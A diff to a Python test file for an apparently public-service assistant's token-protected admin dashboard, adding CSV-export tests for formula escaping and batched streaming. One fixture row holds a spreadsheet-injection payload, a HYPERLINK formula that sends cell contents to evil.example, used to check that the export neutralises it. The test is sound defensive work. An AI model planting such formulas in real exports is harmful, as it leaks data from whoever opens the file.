@@ -1,5 +1,7 @@
 """The editors' area: token-protected dashboard and CSV export."""
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
@@ -24,6 +26,9 @@ def admin_client(settings: Settings, tmp_path: Path) -> Iterator[TestClient]:
                      "abstained", 0.1, now=datetime(2026, 11, 20, 9, tzinfo=UTC))
     store.record("Як отримати fødselsnummer?", "uk", "registration-and-id", "d-number-and-national-id-number",
                  "answered", 0.93, now=datetime(2026, 11, 21, 9, tzinfo=UTC))
+    # someone typed a spreadsheet formula as a question
+    store.record('=HYPERLINK("http://evil.example/?"&A1,"click")', "en", None, None, "abstained", 0.1,
+                 now=datetime(2026, 11, 21, 10, tzinfo=UTC))
     app = create_app(settings.model_copy(update={"admin_token": TOKEN, "database_url": database,
                                                  "rasa_url": "http://127.0.0.1:9"}))
     with TestClient(app) as client:
@@ -52,8 +57,21 @@ def test_csv_export_with_a_bearer_token(admin_client: TestClient) -> None:
     response = admin_client.get("/admin/export.csv", headers={"Authorization": f"Bearer {TOKEN}"})
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
     lines = response.text.strip().splitlines()
-    assert lines[0].startswith("hour,language,topic") and len(lines) == 4
+    assert lines[0].startswith("hour,language,topic") and len(lines) == 5
     assert "41234567" not in response.text
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert rows[-1][-1] == ''''=HYPERLINK("http://evil.example/?"&A1,"click")'''  # shown as text, never run
+
+
+def test_the_export_is_streamed_in_batches_and_holds_every_row(admin_client: TestClient, settings: Settings,
+                                                               tmp_path: Path) -> None:
+    store = InsightStore(f"sqlite:///{tmp_path / 'veiviser.db'}")
+    for number in range(1200):
+        store.record(f"question {number}", "nb", None, None, "answered", 0.9, now=datetime(2026, 11, 22, tzinfo=UTC))
+    with admin_client.stream("GET", "/admin/export.csv", headers={"Authorization": f"Bearer {TOKEN}"}) as response:
+        chunks = list(response.iter_text())
+    assert len(chunks) >= 3  # written as it is read, 500 rows at a time
+    assert "".join(chunks).count("question ") == 1200
 
 
 def test_preview_form_reports_a_broken_draft(admin_client: TestClient) -> None:
